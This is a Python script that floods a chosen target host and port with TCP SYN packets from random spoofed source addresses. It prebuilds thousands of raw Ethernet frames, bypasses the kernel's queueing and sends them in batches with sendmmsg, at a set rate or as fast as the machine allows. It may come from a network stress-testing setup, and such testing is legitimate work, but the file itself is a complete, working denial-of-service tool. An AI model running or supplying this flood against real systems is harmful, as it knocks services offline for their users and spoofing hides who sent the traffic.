#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""Send SYNs from addresses that nobody has, at a rate, with little effort of this
machine's: they are made before, and sent by the hundred.

    flood_fast.py DEVICE SOURCE-MAC TARGET-MAC TARGET PORT RATE

RATE is in packets a second, or 0 for as many as can be. Begins when it has said so,
and ends when standard input does; then it prints how many were sent, and in how many
seconds.
"""

import ctypes
import errno
import random
import select
import socket
import struct
import sys
import time
from typing import List

from flood import ethertype, packed, segment, stranger

COUNT = 4096            # different ones
BURST = 8               # which with all copies must fit into the queue of one processor
SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20


class Vector(ctypes.Structure):
    """struct iovec"""

    _fields_ = [('base', ctypes.c_char_p), ('len', ctypes.c_size_t)]


class Header(ctypes.Structure):
    """struct msghdr"""

    _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32),
                ('iov', ctypes.POINTER(Vector)), ('iovlen', ctypes.c_size_t),
                ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t),
                ('flags', ctypes.c_int)]


class Message(ctypes.Structure):
    """struct mmsghdr"""

    _fields_ = [('header', Header), ('sent', ctypes.c_uint)]


def messages(frames: List[bytes]) -> ctypes.Array:
    """What sendmmsg() takes."""
    found = (Message * len(frames))()
    for message, frame in zip(found, frames):
        message.header.iov = ctypes.pointer(Vector(frame, len(frame)))
        message.header.iovlen = 1
    return found


def main() -> None:
    """Flood until told to stop."""
    device, ours, theirs, name, port, rate = sys.argv[1:]
    target = packed(name)
    link = b''.join(bytes.fromhex(mac.replace(':', '')) for mac in (theirs, ours)
                    ) + struct.pack('!H', ethertype(target))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((device, 0))
    sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    frames = [link + segment(stranger(6 if ':' in name else 4), target,
                             (random.randrange(1024, 65536), int(port)),
                             random.getrandbits(32))
              for _ in range(COUNT)]
    made = messages(frames)
    libc = ctypes.CDLL(None, use_errno=True)
    size, at, sent = ctypes.sizeof(Message), 0, 0
    print('begun', flush=True)
    begin = time.monotonic()
    while True:
        due = begin + sent / int(rate) if int(rate) else 0
        if select.select([sys.stdin], [], [], max(due - time.monotonic(), 0))[0]:
            break
        done = libc.sendmmsg(sock.fileno(), ctypes.byref(made, at * size), BURST, 0)
        if done < 0 and ctypes.get_errno() != errno.ENOBUFS:
            raise OSError(ctypes.get_errno(), 'sendmmsg')
        sent += max(done, 0)
        at = (at + BURST) % COUNT
    print(sent, time.monotonic() - begin, flush=True)


if __name__ == '__main__':
    main()
